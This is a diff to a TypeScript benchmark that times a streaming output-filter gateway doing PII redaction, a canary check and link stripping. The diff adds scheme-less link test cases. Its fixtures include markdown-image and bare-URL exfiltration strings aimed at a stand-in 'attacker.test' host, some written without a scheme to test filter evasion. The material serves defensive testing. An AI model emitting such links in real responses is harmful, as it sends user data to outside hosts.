@@ -8,7 +8,8 @@
  *     token per SSE event, each event's data pushed through OutputFilter.event(); wall time per
  *     event (µs, p50 / p99 / max) — what the proxy adds to each event on a protected route.
  *     Measured for PII + canary, and for PII + canary + the link filter (output.links) on the
- *     same windows and on windows with a markdown image or link every ~400 characters.
+ *     same windows and on windows with a markdown image or link every ~400 characters (with a
+ *     scheme, and without: `//host`, `www.` targets, a bare `www.` URL).
  *  3. Through the gateway, over HTTP: token-by-token streams (one event per ~1 ms) from a paced
  *     upstream that records when it writes each event, through a gateway with every type
  *     redacted and a canary, and through an identical one without output protection,
@@ -40,14 +41,16 @@ const CONFIG: OutputConfig = { types: [...PII_TYPES], action: 'redact', allow: [
 const LINKS_CONFIG: OutputConfig = { ...CONFIG, links: { allow: ['example.com'], action: 'strip', images: true, links: true } };
 const MARKER = 'MGC-0123456789ABCDEF0123';
 const LINKS = ['![chart](https://attacker.test/log?q=ab12cd34)', '[the docs](https://docs.example.com/guide#setup)', 'see https://attacker.test/p?x=1 ', '<img src="https://cdn.example.com/a.png">'];
+/** The same without a scheme: protocol-relative and www. targets, a bare www. URL. */
+const LINKS_NO_SCHEME = ['![chart](//attacker.test/log?q=ab12cd34)', '[the docs](www.example.com/guide#setup)', 'see www.attacker.test/p?x=1 ', '<img src=//cdn.example.com/a.png>'];
 
 /** A window with a markdown image, link, bare URL or tag every ~400 characters (at word boundaries). */
-function withLinks(w: string, seed: number): string {
+function withLinks(w: string, seed: number, links: readonly string[] = LINKS): string {
   let out = '';
   for (let i = 0, k = seed; i < w.length; i += 400, k++) {
     const piece = w.slice(i, i + 400);
     const cut = piece.lastIndexOf(' ');
-    out += cut <= 0 ? piece : `${piece.slice(0, cut)} ${LINKS[k % LINKS.length] as string}${piece.slice(cut)}`;
+    out += cut <= 0 ? piece : `${piece.slice(0, cut)} ${links[k % links.length] as string}${piece.slice(cut)}`;
   }
   return out;
 }
@@ -253,7 +256,8 @@ async function main(): Promise<void> {
   console.log(`| with PII | ${d.mbps.toFixed(0)} | ${d.usPer.toFixed(1)} |\n`);
   const e = perEvent([...clean.slice(0, 40), ...dirty.slice(0, 40)]);
   console.log(`Per streamed event (OutputFilter.event, token-by-token, ${e.events} events): p50 ${e.p50.toFixed(1)} µs, p99 ${e.p99.toFixed(1)} µs, max ${e.max.toFixed(0)} µs\n`);
-  const linked = clean.slice(0, 40).map(withLinks);
+  const linked = clean.slice(0, 40).map((w, i) => withLinks(w, i));
+  const schemeless = clean.slice(0, 40).map((w, i) => withLinks(w, i, LINKS_NO_SCHEME));
   console.log('| per streamed event (token by token) | events | p50 (µs) | p99 (µs) | max (µs) |');
   console.log('|---|---|---|---|---|');
   for (const [name, texts, config] of [
@@ -261,6 +265,7 @@ async function main(): Promise<void> {
     ['PII + canary + links; clean and PII windows', [...clean.slice(0, 40), ...dirty.slice(0, 40)], LINKS_CONFIG],
     ['PII + canary; windows with a link every ~400 chars', linked, CONFIG],
     ['PII + canary + links; windows with a link every ~400 chars', linked, LINKS_CONFIG],
+    ['PII + canary + links; windows with a scheme-less link every ~400 chars', schemeless, LINKS_CONFIG],
   ] as const) {
     const r = perEvent([...texts], config);
     console.log(`| ${name} | ${r.events} | ${r.p50.toFixed(1)} | ${r.p99.toFixed(1)} | ${r.max.toFixed(0)} |`);
